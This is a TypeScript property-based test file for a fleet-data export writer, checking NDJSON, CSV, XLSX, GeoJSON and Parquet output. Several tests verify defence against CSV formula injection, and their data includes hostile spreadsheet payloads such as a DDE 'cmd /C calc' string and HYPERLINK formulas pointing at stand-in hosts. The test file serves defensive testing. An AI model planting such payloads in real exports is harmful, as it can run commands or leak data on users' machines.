import assert from 'node:assert/strict'
import { mkdtempDisposableSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { zstdDecompressSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { readXlsx } from 'hucre/xlsx'
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from 'hyparquet'
import type { ObjectDetail, Position } from '../../types.ts'
import { withAttributes } from './attribute-columns.ts'
import type { CsvForm } from './csv.ts'
import { type Kind, LISTED_KINDS, OBJECTS, POSITIONS } from './kinds.ts'
import { type FormatName, writeTable } from './table-writer.ts'

const number = fc.double({ noNaN: true, noDefaultInfinity: true }).map((value) => value + 0)
const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.constantFrom('a,b', '"', 'x\ny', '\r\n', ''),
)
const orNull = <Value>(value: fc.Arbitrary<Value>) => fc.option(value)
const time = fc
  .date({ noInvalidDate: true, min: new Date(0), max: new Date('9999-12-31T23:59:59.999Z') })
  .map((date) => date.toISOString())

const position: fc.Arbitrary<Position> = fc.record({
  ...{ id: fc.nat(), ident: text, name: text, latitude: number, longitude: number },
  ...{ altitude: orNull(number), angle: orNull(number), speed: orNull(number) },
  ...{ time_server: time, time_device: time, engine_hours: orNull(number) },
  ...{ odometer: orNull(number), mileage: orNull(number), address: orNull(text) },
})
type Json = { name: string }
const positions = fc.array(position, { maxLength: 20 })

async function bytesOf<Row extends object>(
  kind: Kind<Row>,
  name: FormatName,
  rows: Row[],
  form: CsvForm = 'guarded',
): Promise<Buffer> {
  const parts: Buffer[] = []
  const file = { write: (bytes: Uint8Array) => void parts.push(Buffer.from(bytes)) }
  const all = (async function* () {
    yield* rows
  })()
  await writeTable({ name: 'rows', kind }, { format: name, csvForm: form }, file, all)
  return Buffer.concat(parts)
}

async function written(name: FormatName, rows: Position[], form?: CsvForm): Promise<string> {
  return (await bytesOf(POSITIONS, name, rows, form)).toString()
}

/** Texts that a spreadsheet would run, or would split into cells that it runs, and their harmless forms. */
const FORMULAS = {
  '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
  '+1+1': "'+1+1",
  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
  '@SUM(1)': "'@SUM(1)",
  '\t=1+1': "'\t'=1+1",
  '\rx': "'\rx",
  ' =1+1': " '=1+1",
  '\u200b=1+1': "\u200b'=1+1",
  '＝1+1': "'＝1+1",
  '＋1': "'＋1",
  '－1': "'－1",
  '＠x': "'＠x",
  '"=1+1': '"\'=1+1',
  // If the list separator of the machine is a semicolon or a tab, quotes do not protect.
  'x;=1+1;y': "x;'=1+1;y",
  'x;"=1+1': 'x;"\'=1+1',
  'x\n=1+1': "x\n'=1+1",
  'x\t\t=1+1': "x\t\t'=1+1",
}
const HARMLESS = ['', 'Van 3', '3-5', 'a=b', 'x,=1', "'=1+1", 'Main St 5; Porto', '−1', 'ÿ']

describe('A file of positions', () => {
  it('has the API’s own rows in NDJSON, one a line', async () => {
    await fc.assert(
      fc.asyncProperty(positions, async (rows) => {
        const lines = (await written('ndjson', rows)).split('\n')
        assert.equal(lines.pop(), '')
        assert.deepEqual(
          lines.map((line) => JSON.parse(line)),
          JSON.parse(JSON.stringify(rows)),
        )
      }),
    )
  })

  it('is CSV that other programs read, with unchanged values on request', async () => {
    await fc.assert(
      fc.asyncProperty(positions, async (rows) => {
        const read: Record<string, string>[] = parse(await written('csv', rows, 'raw'), {
          columns: true,
          record_delimiter: '\n',
        })
        const expected = rows.map((row) =>
          Object.fromEntries(
            Object.entries(row).map(([name, value]) => [name, value === null ? '' : String(value)]),
          ),
        )
        assert.deepEqual(
          read.map((row) => ({ ...row })),
          expected,
        )
      }),
    )
  })

  it('has no value of an attribute that is of another type than its column', async () => {
    const entry = { label: '', unit: null, decimals: null, is_counter: false, is_level: false }
    const attribute = (name: string, type: 'number' | 'text') => ({ name, type, ...entry })
    const kind = withAttributes(
      POSITIONS,
      [attribute('fuel', 'number'), attribute('constructor', 'text')],
      false,
    )
    const [row] = fc.sample(position, 1)
    const rows = [
      { ...row!, attributes: { fuel: '12' } },
      { ...row!, attributes: { fuel: 12 } },
    ]
    const csvRows = parse(await bytesOf(kind, 'csv', rows), { columns: true }) as Json[]
    assert.deepEqual(
      csvRows.map((each) => Object.entries(each).slice(-2)),
      ['', '12'].map((fuel) => [
        ['fuel', fuel],
        ['constructor', ''],
      ]),
    )
    const { features } = JSON.parse((await bytesOf(kind, 'geojson', rows)).toString())
    assert.deepEqual(
      features.map(({ properties }: { properties: object }) => Object.keys(properties).at(-1)),
      ['address', 'fuel'],
    )
  })

  it('has an apostrophe in CSV before each text that a spreadsheet would run', async () => {
    const [row] = fc.sample(position, 1)
    const texts = [...Object.keys(FORMULAS), ...HARMLESS]
    const rows = texts.map((each) => ({ ...row!, ident: each, name: each, address: each }))
    const read = parse(await written('csv', rows), { columns: true, record_delimiter: '\n' })
    assert.deepEqual(
      (read as Position[]).map(({ ident, name, address }) => [ident, name, address]),
      [...Object.values(FORMULAS), ...HARMLESS].map((each) => [each, each, each]),
    )
  })

  it('has no CSV text that starts a formula, with any separator', async () => {
    const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠')
    const start = fc.constantFrom('', ';', '|', '\t', '\n', '\r', '"', ' ', '\u200b', 'x')
    const nasty = fc.array(fc.oneof(start, sign), { maxLength: 12 }).map((parts) => parts.join(''))
    const named = fc.tuple(position, nasty).map(([each, name]) => ({ ...each, name }))
    await fc.assert(
      fc.asyncProperty(fc.array(named, { maxLength: 5 }), async (rows) => {
        const text = await written('csv', rows)
        for (const { name } of parse(text, { columns: true, record_delimiter: '\n' }) as Json[]) {
          assert.doesNotMatch(name, /^["\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r]/u)
        }
        // A reader with another separator, which ignores the quotes of RFC 4180.
        for (const cell of text.split(/[;|\t\r\n]/).slice(1)) {
          assert.doesNotMatch(cell, /^["\s\p{C}]*[=+\-@＝＋－＠]/u)
        }
      }),
      { numRuns: 500 },
    )
  })

  it('has no formula in CSV in place of a time or a number', async () => {
    const [row] = fc.sample(position, 1)
    const formula = '=HYPERLINK("https://evil.example")'
    const columns = ['time_server', 'time_device', 'latitude', 'mileage'] as const
    const hostile = Object.fromEntries(columns.map((column) => [column, formula]))
    const text = await written('csv', [{ ...row!, ...hostile }])
    const [read] = parse(text, { columns: true, record_delimiter: '\n' }) as Json[]
    for (const column of columns) {
      assert.equal((read as Record<string, string>)[column], `'${formula}`, column)
    }
  })

  it('is a workbook with numbers, texts and times, whatever the texts are', async () => {
    await fc.assert(
      fc.asyncProperty(positions, async (rows) => {
        const { sheets } = await readXlsx(await bytesOf(POSITIONS, 'xlsx', rows))
        const [head, ...cells] = sheets[0]!.rows
        const columns = Object.keys(rows[0] ?? {})
        if (rows.length > 0) assert.deepEqual(head, columns)
        const isTime = (name: string) => name.startsWith('time_')
        assert.deepEqual(
          cells,
          rows.map((row) =>
            Object.entries(row).map(([name, value]) =>
              isTime(name) ? new Date(String(value)) : value,
            ),
          ),
        )
      }),
    )
  })

  it('is a FeatureCollection of points in GeoJSON with all fields', async () => {
    await fc.assert(
      fc.asyncProperty(positions, async (rows) => {
        const collection = JSON.parse(await written('geojson', rows))
        assert.deepEqual(
          [collection.type, collection.features.length],
          ['FeatureCollection', rows.length],
        )
        const back = collection.features.map(
          // biome-ignore lint/suspicious/noExplicitAny: it is parsed
          ({ type, geometry, properties }: any) => {
            assert.deepEqual([type, geometry.type], ['Feature', 'Point'])
            const [longitude, latitude] = geometry.coordinates
            return { ...properties, latitude, longitude }
          },
        )
        assert.deepEqual(back, JSON.parse(JSON.stringify(rows)))
      }),
    )
  })

  it('is Parquet that another program reads, with types, nulls and ZSTD', async () => {
    await fc.assert(
      fc.asyncProperty(positions, async (rows) => {
        using folder = mkdtempDisposableSync(join(tmpdir(), 'fleetgate-parquet-'))
        const path = join(folder.path, 'rows.parquet')
        writeFileSync(path, await bytesOf(POSITIONS, 'parquet', rows))
        const file = await asyncBufferFromFile(path)
        const { row_groups } = await parquetMetadataAsync(file)
        const codecs = row_groups.flatMap(({ columns }) =>
          columns.map((each) => each.meta_data!.codec),
        )
        assert.ok(codecs.every((codec) => codec === 'ZSTD'))
        const compressors = { ZSTD: (bytes: Uint8Array) => zstdDecompressSync(bytes) }
        const read = await parquetReadObjects({ file, compressors })
        assert.deepEqual(
          read,
          rows.map((row) => ({
            ...row,
            id: BigInt(row.id),
            time_server: new Date(row.time_server),
            time_device: new Date(row.time_device),
          })),
        )
      }),
    )
  })
})

describe('A file of items', () => {
  const times = { created_at: '2026-11-20T10:00:00.000Z', updated_at: '2026-11-20T11:00:00.000Z' }
  const texts = { name: '=1', description: null }
  const ring: [number, number][] = [
    [1, 2],
    [3, 4],
    [5, 6],
  ]

  it('has coordinates as JSON in CSV, and as a geometry in GeoJSON', async () => {
    const geofence = { id: 1, ...texts, color: null, coordinates: ring, ...times }
    const [row] = parse(await bytesOf(LISTED_KINDS.geofence, 'csv', [geofence]), {
      columns: true,
    }) as Record<string, string>[]
    assert.deepEqual([row!.name, JSON.parse(row!.coordinates!)], ["'=1", ring])
    const geometryOf = async <Row extends object>(kind: Kind<Row>, item: Row) =>
      JSON.parse((await bytesOf(kind, 'geojson', [item])).toString()).features[0].geometry
    assert.deepEqual(await geometryOf(LISTED_KINDS.geofence, geofence), {
      type: 'Polygon',
      coordinates: [[...ring, ring[0]]],
    })
    const route = { id: 1, ...texts, color: null, deviation: 5, points: [], ...times }
    assert.deepEqual(await geometryOf(LISTED_KINDS.route, { ...route, coordinates: [ring] }), {
      type: 'MultiLineString',
      coordinates: [ring],
    })
    const line: [number, number][] = [
      [170, 45],
      [-170, 45],
    ]
    const { type, coordinates } = await geometryOf(LISTED_KINDS.route, {
      ...route,
      coordinates: [line],
    })
    assert.deepEqual([type, coordinates.length], ['MultiLineString', 2])
    const across = { ...geofence, coordinates: [...line, [-170, 46]] as typeof line }
    assert.equal((await geometryOf(LISTED_KINDS.geofence, across)).type, 'MultiPolygon')
    const site = { id: 1, ...texts, icon: null, latitude: 41, longitude: 29, radius: 5, ...times }
    assert.deepEqual(await geometryOf(LISTED_KINDS.site, site), {
      type: 'Point',
      coordinates: [29, 41],
    })
  })

  it('has an empty cell for a field that a server leaves out', async () => {
    const object = { id: 1, name: 'x' } as ObjectDetail
    const text = (await bytesOf(OBJECTS, 'csv', [object])).toString()
    assert.match(text, /\n1,x,,+\n$/)
    assert.ok((await bytesOf(OBJECTS, 'parquet', [object])).length > 0)
  })

  it('has an object without a place in GeoJSON', async () => {
    const object = { id: 1, latitude: null, longitude: null } as ObjectDetail
    const { features } = JSON.parse((await bytesOf(OBJECTS, 'geojson', [object])).toString())
    assert.equal(features[0].geometry, null)
  })
})
